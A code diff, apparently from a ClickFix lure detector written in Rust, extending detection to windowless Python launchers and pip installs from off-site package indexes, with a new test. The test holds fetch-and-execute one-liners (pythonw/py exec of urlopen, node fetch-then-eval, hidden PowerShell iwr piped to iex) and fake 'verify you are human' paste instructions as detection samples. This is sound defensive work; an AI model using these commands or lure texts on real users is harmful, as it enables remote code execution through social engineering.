@@ -188,6 +188,7 @@ impl Command {
     pub fn runs_on(&self, p: Platform) -> bool {
         self.shapes.iter().any(|s| s.platform() == p)
     }
+    #[inline(never)]
     pub fn strong(&self) -> bool {
         self.shapes.iter().any(|s| s.strong())
     }
@@ -476,11 +477,24 @@ fn program(tok: &str) -> &str {
     base.strip_suffix(".exe").unwrap_or(base)
 }
 
+/// Whether one of `toks` is the program `name` (one out-of-line copy of the loop: `shapes` asks
+/// it seventeen times).
+#[inline(never)]
+fn runs(toks: &[&str], name: &str) -> bool {
+    toks.iter().any(|t| program(t) == name)
+}
+
 /// `needle` occurs in `hay`. One out-of-line copy: the engine's search inlined at every call
 /// site cost kilobytes of Wasm here.
 #[inline(never)]
 fn has(hay: &str, needle: &str) -> bool {
     super::has(hay, needle)
+}
+
+/// One of the space-separated `words` occurs in `hay` (one copy of the loop in the Wasm).
+#[inline(never)]
+fn has_any(hay: &str, words: &str) -> bool {
+    words.split(' ').any(|w| has(hay, w))
 }
 
 /// `word` occurs in `flat` with no letter or digit on either side.
@@ -702,6 +716,9 @@ const RUNNERS: &[&str] = &[
     "fish",
     "python",
     "python3",
+    // Windows' launcher and its windowless Python (no console shows what runs).
+    "py",
+    "pythonw",
     "perl",
     "ruby",
     "node",
@@ -791,11 +808,28 @@ fn runs_saved(flat: &str) -> bool {
 /// "exec(urlopen(…).read())"`, `node -e` with `fetch` and `eval`, `ruby -e 'eval(URI.open(…)
 /// .read)'`, `perl -MLWP::Simple -e 'eval get …'`, `php -r 'eval(file_get_contents(…));'`):
 /// `curl … | python3` by another road (review 39 R39-M4). Code printing what it fetched is docs'.
+#[inline(never)]
 fn fetch_run(flat: &str) -> bool {
     has_url(flat)
         && ["exec(", "eval", "new function"]
             .iter()
             .any(|w| has(flat, w))
+}
+
+/// `pip install` from a given package index, then an interpreter run (`python3 -m pip install
+/// --index-url http://203.0.113.4/simple/ x && python3 -m x`): the package's code fetched and run,
+/// `curl … | python3` by another road (review 40 R40-H2). Where from is judged as for a pipe: a
+/// firm's own index on its own site is its docs'.
+fn index_run(flat: &str) -> bool {
+    let Some(i) = find(flat, " install ") else {
+        return false;
+    };
+    let rest = &flat[i..];
+    has(&flat[..i], "pip")
+        && has(rest, "://")
+        && (has(rest, "index-url") || has(rest, " -i "))
+        // (A Python starting a later command: a package may be named `py`.)
+        && ["&& py", "; py", ";py"].iter().any(|w| has(rest, w))
 }
 
 /// A download saved to a Windows path and that same file run later on the line (review 32
@@ -907,7 +941,7 @@ fn base_name(t: &str) -> &str {
 /// Shapes in the flattened text.
 fn shapes(flat: &str) -> Vec<Shape> {
     let toks = tokens(flat);
-    let prog = |name: &str| toks.iter().any(|t| program(t) == name);
+    let prog = |name: &str| runs(&toks, name);
     let mut out = Vec::new();
 
     // PowerShell: flags can be abbreviated to any unambiguous prefix. Windows' signed
@@ -1117,7 +1151,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
         .iter()
         .any(|s| has(flat, s));
-    if (fetch || fetch_run(flat)) && (to_shell || substituted) {
+    if (fetch || fetch_run(flat)) && (to_shell || substituted) || index_run(flat) {
         out.push(Shape::PipeToShell);
     }
     // Strongest first, no duplicates (a sort would add a monomorphised sort to the Wasm).
@@ -1643,10 +1677,11 @@ impl PageHits {
     /// plugin (review 29 CP-M1).
     #[inline(never)]
     fn lure_topic(&self) -> bool {
-        "video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
-         vergadering reunião riunione"
-            .split(' ')
-            .any(|w| has(&self.flat, w))
+        has_any(
+            &self.flat,
+            "video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
+             vergadering reunião riunione",
+        )
     }
 
     /// Install documentation, not a lure: the page documents an installation (or shows the
@@ -1668,24 +1703,27 @@ impl PageHits {
     /// The page says something is missing ("the missing viewer component", „fehlende
     /// Komponente“, « composant manquant »), in en de fr es/pt it nl pl.
     fn names_missing(&self) -> bool {
-        [
-            "missing", "manquant", "fehlend", "falta", "mancant", "ontbrek", "brakuj",
-        ]
-        .iter()
-        .any(|w| has(&self.flat, w))
+        has_any(
+            &self.flat,
+            "missing manquant fehlend falta mancant ontbrek brakuj",
+        )
     }
 
     fn story(&self) -> impl Iterator<Item = &Hit> {
-        self.hits.iter().filter(|h| {
-            let told = match h.cat {
-                Cat::FixPretext | Cat::PageFailure | Cat::Error | Cat::System => true,
-                Cat::Infection => self
-                    .of(Cat::Victim)
-                    .any(|v| v.start.max(h.start) - v.end.min(h.end) <= CLAIM_REACH),
-                _ => false,
-            };
-            told && !self.aside(h)
-        })
+        self.hits.iter().filter(|h| self.tells(h))
+    }
+
+    /// Whether `h` tells the lure's story (out of line: `story` is read in six places).
+    #[inline(never)]
+    fn tells(&self, h: &Hit) -> bool {
+        let told = match h.cat {
+            Cat::FixPretext | Cat::PageFailure | Cat::Error | Cat::System => true,
+            Cat::Infection => self
+                .of(Cat::Victim)
+                .any(|v| v.start.max(h.start) - v.end.min(h.end) <= CLAIM_REACH),
+            _ => false,
+        };
+        told && !self.aside(h)
     }
 
     /// A problem the page describes rather than claims: under a troubleshooting heading that
@@ -1838,6 +1876,20 @@ impl PageHits {
     }
 }
 
+/// One ClickFix reason added to the verdict and its score (out of line: `apply` adds five).
+#[inline(never)]
+fn add_reason(verdict: &mut Verdict, id: ReasonId, weight: f32, text: String, sentence: &str) {
+    verdict.reasons.push(Reason {
+        id,
+        group: Group::Clipboard,
+        weight,
+        detail: Detail::Excerpt { text },
+        addressed: true,
+        text: sentence.to_string(),
+    });
+    verdict.score += weight;
+}
+
 /// Turns a finding into the verdict: level `scam`, kind `clickfix`, the defanged command and
 /// one reason per piece of evidence.
 pub fn apply(found: ClickFix, verdict: &mut Verdict) {
@@ -1849,15 +1901,7 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
         unseen,
     } = found;
     let mut add = |id, weight: f32, text: String, sentence: &'static str| {
-        verdict.reasons.push(Reason {
-            id,
-            group: Group::Clipboard,
-            weight,
-            detail: Detail::Excerpt { text },
-            addressed: true,
-            text: sentence.to_string(),
-        });
-        verdict.score += weight;
+        add_reason(verdict, id, weight, text, sentence);
     };
     add(
         if typed {
@@ -2246,8 +2290,20 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && shown
         && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
         && page.story().next().is_none();
+    // Docs' "verification steps" come after the install steps (check the download); a kit that
+    // keeps its command off the page heads its steps with them: the check's own.
+    let heads_steps = page.of(Cat::VerifyHuman).any(|v| {
+        page.hits
+            .iter()
+            .any(|s| matches!(s.cat, Cat::PasteStep | Cat::RunTerminal) && s.start >= v.end)
+    });
+    let hidden_story = !shown && (page.story().next().is_some() || heads_steps) || kept_off;
+    // An interpreter's inline code fetching and running (`pythonw -c "exec(urlopen(…))"`, `node
+    // -e` fetch + eval) runs on Windows too: under Run-box steps it is a lure when the page keeps
+    // it off the page with a story or fetches from another site (review 40 R40-H2); docs show it.
+    let interp_run = hidden_story && fetch_run(&command.flat);
     let windows_run = run_dialog
-        && command.windows_payload()
+        && (command.windows_payload() || interp_run)
         && !docs
         && !help
         && !reference
@@ -2257,14 +2313,6 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // with a story (a browser update, a failed check; not docs' "verification steps") AND the
     // command kept off the page: kits hide it, while docs and how-tos ("How to fix 'command not
     // found'") show what they copy.
-    // Docs' "verification steps" come after the install steps (check the download); a kit that
-    // keeps its command off the page heads its steps with them: the check's own.
-    let heads_steps = page.of(Cat::VerifyHuman).any(|v| {
-        page.hits
-            .iter()
-            .any(|s| matches!(s.cat, Cat::PasteStep | Cat::RunTerminal) && s.start >= v.end)
-    });
-    let hidden_story = !shown && (page.story().next().is_some() || heads_steps) || kept_off;
     let mac_run = terminal
         && paste
         && !docs
@@ -2291,7 +2339,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && (fetch > 0 || command.hides_script() && command.https_sites.is_empty())
         && !page.shows_head(&command)
         && !write_up
-        && (fetch > 1 && (command.strong() || command.windows_payload())
+        && (fetch > 1 && (command.strong() || command.windows_payload() || paste)
             || told
             || verify > 0.0
             || run_dialog
@@ -2366,6 +2414,62 @@ mod tests {
     }
 
     const CAPTCHA: &str = "Verify you are human. Press Win + R, then Ctrl + V, then Enter.";
+
+    #[test]
+    fn review40_windowless_python_and_pip_indexes() {
+        let on = |url: &str, parts: &[&str], clip: &str| {
+            assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
+        };
+        // Windows' windowless Python and its launcher run inline code as `python` does.
+        let steps = "Press Win + R, paste with Ctrl + V, press Enter.";
+        for clip in [
+            "pythonw -c \"import urllib.request as q;exec(q.urlopen('https://relay.test/k').read())\"",
+            "py -c \"exec(__import__('urllib.request').request.urlopen('http://198.51.100.8/k').read())\"",
+        ] {
+            assert_eq!(shapes_of(clip), vec![Shape::PipeToShell], "{clip}");
+            assert!(on("https://gate.example/", &["I am not a robot", steps], clip));
+        }
+        // A fetch-and-eval one-liner under Run-box steps, kept off the page, with no human check
+        // (only "the check did not pass"): a lure. A tutorial showing it is not.
+        let node = "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(eval)\"";
+        let story = format!("The automatic check did not pass. {steps}");
+        assert!(on("https://gate.example/", &["Check", &story], node));
+        let shown = format!("Fetch and evaluate in one line. {steps} {node}");
+        assert!(!on("https://blog.example/", &["Node tips", &shown], node));
+        // pip from a package index on a bare IP or plain http off-site, then run: a download run.
+        let pip = "python3 -m pip install --index-url http://203.0.113.4/simple/ helper && python3 -m helper";
+        assert_eq!(shapes_of(pip), vec![Shape::PipeToShell]);
+        let terminal = "Open the Terminal, paste the command and press Return.";
+        assert!(on("https://repair.example/", &["Repair", terminal], pip));
+        // From a bare IP, kept off the page, with only a paste step: the same.
+        let paste = "The helper stopped. Reinstall it: paste the command where you work.";
+        assert!(on("https://repair.example/", &["Repair", paste], pip));
+        let shown = format!("{paste} {pip}");
+        assert!(!on("https://forum.example/", &["Repair", &shown], pip));
+        // A firm's own index, a package named `py`, an install with no run: not so.
+        let own =
+            "py -m pip install --index-url https://pypi.firm.example/simple/ tool && py -m tool";
+        assert_eq!(shapes_of(own), vec![Shape::PipeToShell]);
+        assert!(!on(
+            "https://it.firm.example/kb/tool",
+            &["Tool", steps],
+            own
+        ));
+        for clip in [
+            "pip install --index-url https://pypi.firm.example/simple/ py",
+            "pip install -i http://203.0.113.4/simple/ helper",
+        ] {
+            assert!(shapes_of(clip).is_empty(), "{clip}");
+        }
+        // Pages of a few words (steps in a picture, "Just a moment..."): not read (left on branch
+        // clickfix41-terse, over this branch's Wasm share).
+        let hidden = "powershell -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
+        assert!(!on(
+            "https://portal.rmm.example/deploy",
+            &["Deploy agent", "Copy"],
+            hidden
+        ));
+    }
 
     #[test]
     fn a_share_host_of_many_digits_is_no_private_address_and_no_panic() {
